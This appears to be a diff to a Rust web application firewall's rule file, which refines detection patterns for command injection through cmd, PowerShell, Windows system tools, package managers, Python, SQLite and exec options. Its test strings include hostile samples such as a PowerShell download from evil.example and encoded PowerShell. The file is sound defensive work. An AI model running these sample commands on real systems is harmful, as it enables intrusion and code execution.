@@ -6,32 +6,32 @@ use crate::waf::view::Places;
 patterns! {
     class Rce, tags &["windows"], places Places::VALUES;
     FOR: "rce-cmd-for", STRONG, "a loop of cmd",
-        literals ["for"], r"\bfor\b\s*(?:/[dflr]\b[^%\r\n]{0,120})?\s*%{1,2}\S{0,16}\s+in\s*\([^\r\n]{0,200}?\)\s*do\b",
+        literals [" in(", " in (", " in  (", "\tin"], r"\bfor\b\s*(?:/[dflr]\b[^%\r\n]{0,120})?\s*%{1,2}\S{0,16}\s+in\s*\([^\r\n]{0,200}?\)\s*do\b",
         ["for /f %i in ('whoami') do echo %i", "FOR %a IN (set) DO x"], ["for 5% in (cash) do call"];
     IF: "rce-cmd-if", STRONG, "a condition of cmd",
-        literals ["if"], r"(?:^|[^\w-])if\b\s*(?:/i\s*)?(?:not\s+)?(?:(?:exist|errorlevel|cmdextversion)\s+\S+\s*\S|defined\s+\w+\s+[(\w@])",
+        literals [" exist ", " exist\t", " errorlevel ", " cmdextversion ", " defined "], r"(?:^|[^\w-])if\b\s*(?:/i\s*)?(?:not\s+)?(?:(?:exist|errorlevel|cmdextversion)\s+\S+\s*\S|defined\s+\w+\s+[(\w@])",
         ["if exist C:\\pagefile.sys cmd", "IF NOT EXIST x (CMD)"], ["what if existing users leave", "if it is defined, go"];
     COMPARE: "rce-cmd-compare", STRONG, "a comparison of cmd",
-        literals ["if"],
+        literals ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "],
         r#"(?:^|[^\w-])if\b\s*(?:/i\s*)?(?:not\s*)?(?:/i\s*)?(?:(?:"[^"\r\n]{0,60}"|%[^\s"]{1,40}|\(\w{1,20}\))\s*==\s*(?:"[^"\r\n]{0,60}"|[^\s:;{}]{1,40})\s*[\w@("]|\w{1,30}==\w{1,30}\s+[\w@]|\(?\s*(?:"?[%\w][^\s=]{0,40})\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S{1,40}\s*\S)"#,
         ["if \"%VAR%\" == \"before\" (", "IF red==red echo test", "IF (2 GEQ 15) echo x"], ["if (x == 1) {", "if a == b: pass"];
     POWERSHELL: "rce-powershell", STRONG, "PowerShell",
-        literals ["powershell", "pwsh", "-"],
+        literals ["powershell", "pwsh", "invoke-", "start-process", "start-job", "start-bits", "start-service", "new-object", "new-item", "new-psdrive", "new-service", "new-localuser", "get-wmi", "get-cim", "get-child", "get-cred", "get-process", "get-service", "get-content", "get-item", "get-local", "get-aduser", "set-exec", "set-content", "set-item", "set-mppref", "set-acl", "add-type", "add-mppref", "add-content", "add-localgroup", "import-module", "out-file", "out-string", "out-null", "convertto-sec", "register-sched", "stop-process", "stop-service", "remove-item", "copy-item", "write-output", "write-host", "foreach-object"],
         r"\b(?:(?:powershell|pwsh)(?:\.exe)?[\s/]+(?:-\w|/\w|[a-z]:\\|[&$(\x22']|\w+-\w)|(?:invoke-(?:webrequest|restmethod|expression|command|item|wmimethod|cimmethod|shellcode|mimikatz|obfuscation)|start-(?:process|job|bitstransfer|service)|new-(?:object|itemproperty|psdrive|service|localuser)|get-(?:wmiobject|ciminstance|childitem|credential|process|service|content|item|localuser|aduser|itemproperty)|set-(?:executionpolicy|content|itemproperty|mppreference|acl)|add-(?:type|mppreference|content|localgroupmember)|import-module|out-(?:file|string|null)|convertto-securestring|register-scheduledtask|stop-(?:process|service)|remove-item(?:property)?|copy-item|write-(?:output|host)|foreach-object)(?:\s|$|;|\|))",
         ["Invoke-WebRequest http://evil.example/x.ps1", "powershell -enc AAAA", "powershell C:\\x.exe"],
         ["the powershell book", "a get-together"];
     CMD: "rce-cmd", STRONG, "cmd is run",
-        literals ["cmd", "comspec", "command"], r"\b(?:cmd(?:\.exe)?\s*/[a-z]\b\s*\S|%comspec%|command\.com\b)", ["cmd.exe /c dir"], ["cmd key"];
+        literals ["cmd.exe", "cmd /", "cmd/", "cmd  /", "comspec", "command.com"], r"\b(?:cmd(?:\.exe)?\s*/[a-z]\b\s*\S|%comspec%|command\.com\b)", ["cmd.exe /c dir"], ["cmd key"];
     POWERSHELL_NET: "rce-powershell-net", STRONG, "classes of .NET in PowerShell",
-        literals ["net.webclient", "downloadstring", "downloadfile", "frombase64string", "[system", "[convert", "[text."],
+        literals ["net.webclient", ".download", "frombase64string", "]::"],
         r"(?:net\.webclient|\.download(?:string|file|data)\s*\(|frombase64string\s*\(|\[(?:system\.)?(?:convert|text\.encoding|io\.file|reflection\.assembly|diagnostics\.process)\]::)",
         ["(New-Object Net.WebClient).DownloadString('x')"], ["download file"];
     SWITCH: "rce-windows-switch", STRONG, "a program of Windows with a switch",
-        literals ["/"],
+        literals ["bcdboot", "bcdedit", "regedit", "certutil", "bitsadmin", "schtasks", "wmic", "icacls", "cacls", "rundll32", "regsvr32", "mshta", "cscript", "wscript", "forfiles", "vssadmin", "tasklist", "taskkill", "ipconfig", "systeminfo", "attrib", "xcopy", "robocopy", "takeown", "diskpart", "fsutil", "nltest", "whoami", "netsh", "msiexec", "findstr", "reg /", "net /", "net1 /", "sc /", "at /", "expand /"],
         r"(?:^|[;&|\s(])(?:bcdboot|bcdedit|regedit|reg|certutil|bitsadmin|schtasks|wmic|net|sc|at|icacls|cacls|rundll32|regsvr32|mshta|cscript|wscript|forfiles|vssadmin|tasklist|taskkill|ipconfig|systeminfo|net1|attrib|xcopy|robocopy|takeown|diskpart|fsutil|nltest|whoami|netsh|msiexec|expand|findstr)(?:\.exe)?\s*/[a-z?]{1,12}\b(?:[^/]|$)",
         ["bcdboot/r file.txt", "; regedit /E c:\\x.reg HKEY"], ["at/near the station"];
     AT: "rce-at", STRONG, "a command for later",
-        literals ["at "], r#"(?:^|[;&|]\s*)at\s+\d{1,2}:\d{2}\s*(?:/\w+\s*)?["'\\a-z]:?[^\s,.]"#, [";at 2:00 \"echo test\""], ["meet at 2:00 pm", "see you at 10:30; bring the dog"];
+        literals ["at 0", "at 1", "at 2", "at 3", "at 4", "at 5", "at 6", "at 7", "at 8", "at 9"], r#"(?:^|[;&|]\s*)at\s+\d{1,2}:\d{2}\s*(?:/\w+\s*)?["'\\a-z]:?[^\s,.]"#, [";at 2:00 \"echo test\""], ["meet at 2:00 pm", "see you at 10:30; bring the dog"];
     ALIAS: "rce-alias", STRONG, "an alias of a shell",
         literals ["alias"], r#"\balias\s+(?:[-+]\w+\+?\s+)*['"]?[\w.]{1,24}['"]?=\s*\S"#, ["alias ls='rm'", "alias -p x=id"], ["your alias is not = to your name"];
     PERL: "rce-perl-block", STRONG, "code in a string of Perl",
@@ -41,19 +41,17 @@ patterns! {
         r"\b(?:process(?:\.|::)(?:spawn|exec|fork|clock)\b|io\.popen\b|kernel(?:\.|::)(?:exec|system|open|fork|eval|spawn)\b|open3\.(?:popen|capture))|%x[({\[|!]",
         ["Process.spawn(\"id\")", "%x(id)"], ["the process. Spawn points"];
     PYTHON: "rce-python", STRONG, "code of Python that runs a program or code",
-        literals ["os.", "subprocess", "__import__", "importlib", "pty.", "eval(", "exec(", "compile("],
+        literals ["os.system", "os.popen", "os.exec", "os.spawn", "subprocess.", "__import__", "importlib.", "pty.spawn", "eval(", "exec(", "eval (", "exec ("],
         r#"\b(?:os\.(?:system|popen|exec[lv]\w*|spawn\w+)\s*\(|subprocess\.(?:popen|call|run|check_\w+|getoutput)\b|__import__\s*\(|importlib\.import_module|pty\.spawn|(?:eval|exec)\s*\(\s*compile\s*\()"#,
         ["__import__('os').popen('id')", "eval(compile('x','a','single'))"], ["subprocess of the economy"];
-    HISTORY: "rce-history", STRONG, "a command out of the history, or a directory out of the stack",
-        literals ["!", "~"], r"^\s*(?:(?:!-?\d+){1,4}|!!|~(?:[+-]\d*|\d+)/?|~[+-])\s*$", ["!-1!-2", "~+"], ["hello!!", "~4kg"];
     INSTALL: "rce-install", STRONG, "a package is installed",
-        literals [" install", " add", " update", " upgrade", " remove"],
+        literals ["pip ", "pip2 ", "pip3 ", "npm ", "gem ", "apt ", "apt-get ", "yum ", "dnf ", "apk ", "brew ", "cpan", "cargo ", "yarn ", "pnpm ", "composer ", "pacman ", "snap ", "choco ", "easy_install", "opkg ", "zypper "],
         r"(?:^|[;&|`(]\s*)(?:sudo\s+)?(?:pip\d?|npm|gem|apt(?:-get)?|yum|dnf|apk|brew|cpanm?|cargo|yarn|pnpm|composer|pacman|snap|port|choco|easy_install|opkg|zypper)\s+(?:-\S+\s+)*(?:install|add|update|upgrade|remove)\s+\S",
         ["pip3 install something", "; apt-get -y install nc"], ["port install (new)", "how to npm install x"];
     SQLITE: "rce-sqlite-command", STRONG, "a command of the shell of SQLite",
-        literals ["."], r"[;'\x22]\s*(?:\\n)?\s*\.\s*(?:shell|sh|system|load|read|output|import|open|backup|restore|save|dump)\s+\S", [";\n.shell nc", "'; .system id"], ["x; .open"];
+        literals [".shell", ".sh ", ".system", ".load ", ".read ", ".output ", ".import ", ".open ", ".backup ", ".restore ", ".save ", ".dump "], r"[;'\x22]\s*(?:\\n)?\s*\.\s*(?:shell|sh|system|load|read|output|import|open|backup|restore|save|dump)\s+\S", [";\n.shell nc", "'; .system id"], ["x; .open"];
     ARGUMENT: "rce-argument", STRONG, "an option that runs a program",
-        literals ["-wrapper", "-exec", "--exec", "use-askpass", "proxycommand", "upload-pack", "receive-pack", "-ex "],
+        literals [" -wrapper", "--exec", " -exec", "--use-askpass", "proxycommand", "--upload-pack", "--receive-pack", " -ex "],
         r"(?:\s-wrapper\s+\S+,|--exec(?:ute)?[= ]\S|\s-exec\s+\S+|--use-askpass=|proxycommand\s*=|--(?:upload|receive)-pack=|\s-ex\s+\\?!)",
         ["x --exec=`id`", "c99 -wrapper sh,-c,id ."], ["the co-executive"];
 }
